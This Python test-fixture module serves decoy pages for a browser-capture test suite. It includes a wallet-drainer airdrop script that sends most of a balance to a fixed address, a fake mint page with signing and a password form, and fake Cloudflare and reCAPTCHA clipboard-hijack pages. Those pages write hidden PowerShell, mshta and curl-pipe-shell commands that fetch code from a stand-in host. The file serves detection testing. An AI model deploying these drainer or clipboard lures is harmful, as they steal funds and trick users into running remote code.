"""Pages that talk to wallets and the clipboard: the capture tests of the decoy wallets and of
clipboard recording (tests/capture/test_decoys.py). Not corpus samples: no verdict is expected.

- wallet-lab.test: an airdrop "claim" page whose script probes the EIP-1193 provider, connects,
  reads the balance and asks to send most of it away (/); a page that finds wallets through
  EIP-6963 (/eip6963); a Phantom "rewards" page that connects, signs a message and a transaction
  (/solana); a mint page that waits for "Connect Wallet" before it asks for a signature, next
  to a login form and a link that must not be clicked (/connect); a page that lists what its
  first script can see on window (/globals).
- clip-lab.test (HTTPS: the async Clipboard API needs a secure context): every way of writing
  the clipboard on load (/clipboard), the same from a same-origin frame (/framed), a fake
  reCAPTCHA that writes its command only once "I'm not a robot" is clicked (/captcha).
- chain-digest.test: a benign crypto news page whose price widget quietly probes
  ``window.ethereum`` for the network and shows nothing of it (the no-leak test).
"""

import json

from aiohttp import web

from tests.testweb.routes import Routes

routes = Routes()

# Where the claim page sends the victim's funds (a made-up address).
DRAIN_TO = "0xAcF29ebc8839B066C271b50DB91035a873684dAC"

# What the clipboard pages write, by API.
WRITE_TEXT = 'powershell -w hidden -c "iwr https://cdn-verify.example/s.ps1 | iex"'
EXEC_COMMAND = "mshta https://cdn-verify.example/check.hta # Verification ID: 48213"
COPY_EVENT = "curl -fsSL https://cdn-verify.example/fix.sh | sh"
CLIPBOARD_ITEM = 'osascript -e "do shell script \\"curl -s https://cdn-verify.example/m | sh\\""'
FRAMED = "cmd /c start /min powershell -enc SQBFAFgA"
CAPTCHA = (
    "powershell -NoP -W Hidden -Enc "
    "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGMAZABuAC0AdgBlAHIAaQBmAHkALgBlAHgAYQBtAHAAbABlACkA"
    " # I am not a robot - reCAPTCHA Verification ID: 7731"
)

# What the mint page asks the connected account to sign (personal_sign, hex of UTF-8).
SIGN_IN_MESSAGE = "Welcome to Azuki Elementals!\n\nClick to sign in for the free mint.\nNonce: 5521"

# The Solana page's message and its stand-in for a @solana/web3.js Transaction's wire bytes.
SOLANA_MESSAGE = "Sign in to Solana Rewards\nClaim: 250 JUP\nNonce: 884211"
SOLANA_TX_BYTES = bytes(range(1, 65)) + b"\x02\x00\x01\x03"
SOLANA_BINARY_MESSAGE = bytes([0xFF, 0xFE, 0x00, 0x9C])


def _html(text: str) -> web.Response:
    return web.Response(text=text, content_type="text/html", charset="utf-8")


def _js(text: str) -> web.Response:
    return web.Response(text=text, content_type="application/javascript", charset="utf-8")


_CLAIM_PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>$PEPE Airdrop — Claim your allocation</title>
<style>
  body { margin: 0; font-family: Inter, system-ui, sans-serif;
         background: #0b1410; color: #e8f5e9; }
  header { display: flex; justify-content: space-between; align-items: center; padding: 18px 32px; }
  .logo { font-weight: 800; font-size: 22px; color: #6fcf59; }
  main { max-width: 560px; margin: 60px auto; text-align: center; }
  .card { background: #13221a; border: 1px solid #2b4a36; border-radius: 18px; padding: 32px; }
  .amount { font-size: 40px; font-weight: 800; color: #6fcf59; margin: 12px 0; }
  .claim { background: #6fcf59; color: #0b1410; border: 0; border-radius: 12px;
           padding: 14px 40px; font-size: 18px; font-weight: 700; cursor: pointer; }
  .fine { color: #86a08f; font-size: 13px; margin-top: 18px; }
</style>
</head>
<body>
<header><div class="logo">PEPE</div><nav>Tokenomics · Roadmap · Airdrop</nav></header>
<main>
  <div class="card">
    <h1>Season 2 airdrop is live</h1>
    <p>Eligible wallets can claim</p>
    <div class="amount">1,250,000 $PEPE</div>
    <p id="status">Checking eligibility…</p>
    <p class="fine">Claims close in 02:14:55. Gas is covered by the PEPE treasury.</p>
  </div>
</main>
<script src="/assets/claim.js"></script>
</body>
</html>
"""

_CLAIM_JS = """
(async function () {
  var status = document.getElementById('status');
  var eth = window.ethereum;
  if (!eth || !eth.isMetaMask) {
    status.textContent = 'Open this page in your wallet browser.';
    return;
  }
  var chainId = await eth.request({ method: 'eth_chainId' });
  var already = await eth.request({ method: 'eth_accounts' });
  var network = await eth.request({ method: 'net_version' });
  var accounts = await eth.request({ method: 'eth_requestAccounts' });
  var from = accounts[0];
  var balance = BigInt(await eth.request({ method: 'eth_getBalance', params: [from, 'latest'] }));
  if (chainId !== '0x1') {
    await eth.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: '0x1' }] });
  }
  var gasPrice = await eth.request({ method: 'eth_gasPrice' });
  var value = balance - balance / 20n;
  await eth.request({
    method: 'eth_sendTransaction',
    params: [{ from: from, to: '%(drain_to)s', value: '0x' + value.toString(16),
               gas: '0x5208', gasPrice: gasPrice, data: '0x' }],
  });
  status.textContent = 'Claim submitted for ' + from.slice(0, 6) + '…';
})();
"""

_CONNECT_PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Azuki Elementals — Free Mint</title>
<style>body{font-family:system-ui;background:#fff5f5;margin:0}
header{display:flex;justify-content:space-between;padding:16px 28px;border-bottom:1px solid #eee}
.mint{max-width:460px;margin:60px auto;text-align:center}
.connect{background:#c3002f;color:#fff;border:0;border-radius:24px;padding:12px 28px;font-size:16px}
.login{max-width:300px;margin:30px auto;font-size:13px}</style>
</head>
<body>
<header><b>AZUKI</b><a href="/claim-guide">Claim guide</a></header>
<div class="mint">
  <h1>Elementals free mint</h1>
  <p>2,000 / 20,000 minted. Holders of Azuki can mint one Elemental for free.</p>
  <button class="connect" type="button" id="connect">Connect Wallet</button>
  <p id="status"></p>
</div>
<form class="login" action="/login" method="post">
  <p>Already registered? Sign in to the allowlist portal.</p>
  <input type="email" name="email" placeholder="Email">
  <input type="password" name="password" placeholder="Password">
  <button type="submit">Verify account</button>
</form>
<script>
  document.getElementById('connect').addEventListener('click', async function () {
    var accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });
    var message = %(message)s;
    var hex = '0x' + Array.from(new TextEncoder().encode(message))
      .map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
    await window.ethereum.request({ method: 'personal_sign', params: [hex, accounts[0]] });
    document.getElementById('status').textContent = 'Signed in';
  });
</script>
</body>
</html>
"""

_EIP6963_PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Swap · Select a wallet</title></head>
<body>
<h1>Connect a wallet</h1>
<ul id="wallets"></ul>
<script>
  var providers = [];
  window.addEventListener('eip6963:announceProvider', function (event) {
    var detail = event.detail;
    providers.push(detail);
    var item = document.createElement('li');
    item.textContent = detail.info.name + ' (' + detail.info.rdns + ')';
    item.dataset.uuid = detail.info.uuid;
    document.getElementById('wallets').appendChild(item);
    detail.provider.request({ method: 'eth_chainId' }).then(function (id) {
      item.textContent += ' on chain ' + id;
    });
  });
  window.dispatchEvent(new Event('eip6963:requestProvider'));
</script>
</body>
</html>
"""

_SOLANA_PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Jupiter Rewards — Claim JUP</title>
<style>body{font-family:system-ui;background:#141726;color:#fff;text-align:center}
button{background:#c7f284;border:0;border-radius:10px;padding:12px 30px;font-weight:700}</style>
</head>
<body>
<h1>Jupiter Active Staking Rewards</h1>
<p>Your wallet is eligible for <b>250 JUP</b>.</p>
<p id="status">Connecting…</p>
<script src="/assets/solana-claim.js"></script>
</body>
</html>
"""

_SOLANA_JS = """
(async function () {
  var provider = window.phantom && window.phantom.solana;
  if (!provider || !provider.isPhantom) { return; }
  var connected = await provider.connect();
  var owner = connected.publicKey.toBase58();
  var message = new TextEncoder().encode(%(message)s);
  await provider.signMessage(message, 'utf8');
  await provider.signMessage(new Uint8Array(%(binary)s));
  // A @solana/web3.js Transaction, as far as a wallet sees one.
  var tx = {
    feePayer: owner,
    recentBlockhash: 'EkSnNWid2cvwEVnVx9aBqawnmiCNiDgp3gUdkDPTKN1N',
    serialize: function (config) {
      if (!config || config.requireAllSignatures !== false) {
        throw new Error('Signature verification failed');
      }
      return new Uint8Array(%(tx)s);
    },
  };
  var signed = await provider.signTransaction(tx);
  document.getElementById('status').textContent = signed === tx ? 'Claimed' : 'Failed';
})();
"""

_GLOBALS_PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Wallet check</title>
<script>
  var seen = Object.getOwnPropertyNames(window);
  document.documentElement.dataset.keys = JSON.stringify(Object.keys(window));
  document.documentElement.dataset.names = JSON.stringify(seen);
  document.documentElement.dataset.ethereum = typeof window.ethereum;
  document.documentElement.dataset.solana = typeof window.solana;
  var src = Function.prototype.toString.call(navigator.clipboard
    ? Object.getPrototypeOf(navigator.clipboard).writeText : document.execCommand);
  document.documentElement.dataset.writeText = src;
</script>
</head>
<body><h1>Checking your browser…</h1></body>
</html>
"""

_CLIPBOARD_PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Cloudflare | Verify you are human</title></head>
<body>
<h1>clip-lab.test</h1>
<p>Verify you are human by completing the action below.</p>
<script>
  navigator.clipboard.writeText(%(write_text)s).then(function (result) {
    document.body.dataset.writeText = String(result);
  });

  var area = document.createElement('textarea');
  area.value = %(exec_command)s;
  area.style.position = 'fixed';
  area.style.left = '-9999px';
  document.body.appendChild(area);
  area.select();
  document.body.dataset.execCommand = String(document.execCommand('copy'));
  document.body.removeChild(area);

  function onCopy(event) {
    event.clipboardData.setData('text/plain', %(copy_event)s);
    event.preventDefault();
  }
  document.addEventListener('copy', onCopy);
  document.execCommand('copy');
  document.removeEventListener('copy', onCopy);

  var item = new ClipboardItem({
    'text/plain': new Blob([%(clipboard_item)s], { type: 'text/plain' }),
    'text/html': new Blob(['<b>verification</b>'], { type: 'text/html' }),
  });
  navigator.clipboard.write([item]);
</script>
</body>
</html>
"""

_FRAMED_PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Meeting room</title></head>
<body>
<h1>Your camera is blocked</h1>
<iframe src="/frame-fix" width="400" height="200"></iframe>
<script>
  // A frame made by script starts as about:blank, where no init script runs.
  var blank = document.createElement('iframe');
  document.body.appendChild(blank);
  blank.contentWindow.navigator.clipboard.writeText(%(blank)s);
</script>
</body>
</html>
"""

_FRAME_FIX = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Fix</title></head>
<body><p>Camera driver fix</p>
<script>navigator.clipboard.writeText(%(framed)s);</script>
</body></html>
"""

_CAPTCHA_PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>reCAPTCHA verification</title>
<style>
  body { font-family: Roboto, Arial, sans-serif; background: #f9f9f9; }
  .rc-anchor { width: 300px; height: 74px; margin: 120px auto 0; background: #f9f9f9;
               border: 1px solid #d3d3d3; border-radius: 3px;
               box-shadow: 0 0 4px 1px rgba(0,0,0,.08);
               display: flex; align-items: center; padding: 0 12px; }
  .recaptcha-checkbox { width: 24px; height: 24px; border: 2px solid #c1c1c1; border-radius: 2px;
                        background: #fff; cursor: pointer; }
  .rc-label { margin-left: 12px; font-size: 14px; color: #282727; }
  .rc-logo { margin-left: auto; font-size: 10px; color: #555; text-align: center; }
  #steps { display: none; width: 320px; margin: 20px auto; font-size: 14px; }
</style>
</head>
<body>
<div class="rc-anchor">
  <div id="recaptcha-anchor" class="recaptcha-checkbox" role="checkbox" aria-checked="false"
       tabindex="0"></div>
  <span class="rc-label">I'm not a robot</span>
  <div class="rc-logo">reCAPTCHA<br>Privacy - Terms</div>
</div>
<div id="steps">
  <b>Verification steps</b>
  <ol><li>Press Windows Button "⊞" + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>
</div>
<script>
  document.getElementById('recaptcha-anchor').addEventListener('click', function () {
    this.setAttribute('aria-checked', 'true');
    setTimeout(function () {
      navigator.clipboard.writeText(%(captcha)s);
      document.getElementById('steps').style.display = 'block';
    }, 1500);
  });
</script>
</body>
</html>
"""

_DIGEST_PAGE = """<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Chain Digest — Markets</title>
<style>body{font-family:Georgia,serif;max-width:760px;margin:auto}
.ticker{font-family:monospace;background:#f3f3f3;padding:8px}</style>
</head>
<body>
<header><h1>Chain Digest</h1>
<nav><a href="/">Markets</a> · <a href="/policy">Policy</a></nav></header>
<div class="ticker">BTC 97,412 ▲1.2% · ETH 3,604 ▼0.4% · SOL 241 ▲3.1%</div>
<article>
  <h2>ETF inflows slow as rates stay put</h2>
  <p>Spot ether funds saw their smallest weekly inflow since August, analysts said, as traders
  waited for the next rate decision.</p>
</article>
<script src="/widget.js"></script>
</body>
</html>
"""

_DIGEST_WIDGET = """
(function () {
  // Prices are shown for the reader's network when a wallet is present; nothing else changes.
  var network = 'mainnet';
  if (typeof window.ethereum !== 'undefined') {
    window.ethereum.request({ method: 'eth_chainId' }).then(function (id) {
      network = id === '0x1' ? 'mainnet' : 'other';
    });
  }
})();
"""


def _fill(template: str, **values: object) -> str:
    return template % {name: json.dumps(value) for name, value in values.items()}


@routes.route("wallet-lab.test", "/")
async def claim(request: web.Request) -> web.Response:
    return _html(_CLAIM_PAGE)


@routes.route("wallet-lab.test", "/assets/claim.js")
async def claim_js(request: web.Request) -> web.Response:
    return _js(_CLAIM_JS % {"drain_to": DRAIN_TO})


@routes.route("wallet-lab.test", "/connect")
async def connect(request: web.Request) -> web.Response:
    return _html(_fill(_CONNECT_PAGE, message=SIGN_IN_MESSAGE))


@routes.route("wallet-lab.test", "/eip6963")
async def eip6963(request: web.Request) -> web.Response:
    return _html(_EIP6963_PAGE)


@routes.route("wallet-lab.test", "/solana")
async def solana(request: web.Request) -> web.Response:
    return _html(_SOLANA_PAGE)


@routes.route("wallet-lab.test", "/assets/solana-claim.js")
async def solana_js(request: web.Request) -> web.Response:
    return _js(
        _fill(
            _SOLANA_JS,
            message=SOLANA_MESSAGE,
            binary=list(SOLANA_BINARY_MESSAGE),
            tx=list(SOLANA_TX_BYTES),
        )
    )


@routes.route("wallet-lab.test", "/globals")
async def globals_page(request: web.Request) -> web.Response:
    return _html(_GLOBALS_PAGE)


@routes.route("clip-lab.test", "/clipboard")
async def clipboard(request: web.Request) -> web.Response:
    return _html(
        _fill(
            _CLIPBOARD_PAGE,
            write_text=WRITE_TEXT,
            exec_command=EXEC_COMMAND,
            copy_event=COPY_EVENT,
            clipboard_item=CLIPBOARD_ITEM,
        )
    )


@routes.route("clip-lab.test", "/framed")
async def framed(request: web.Request) -> web.Response:
    return _html(_fill(_FRAMED_PAGE, blank=FRAMED + " #blank"))


@routes.route("clip-lab.test", "/frame-fix")
async def frame_fix(request: web.Request) -> web.Response:
    return _html(_fill(_FRAME_FIX, framed=FRAMED))


@routes.route("clip-lab.test", "/captcha")
async def captcha(request: web.Request) -> web.Response:
    return _html(_fill(_CAPTCHA_PAGE, captcha=CAPTCHA))


@routes.route("chain-digest.test", "/")
async def digest(request: web.Request) -> web.Response:
    return _html(_DIGEST_PAGE)


@routes.route("chain-digest.test", "/widget.js")
async def digest_widget(request: web.Request) -> web.Response:
    return _js(_DIGEST_WIDGET)
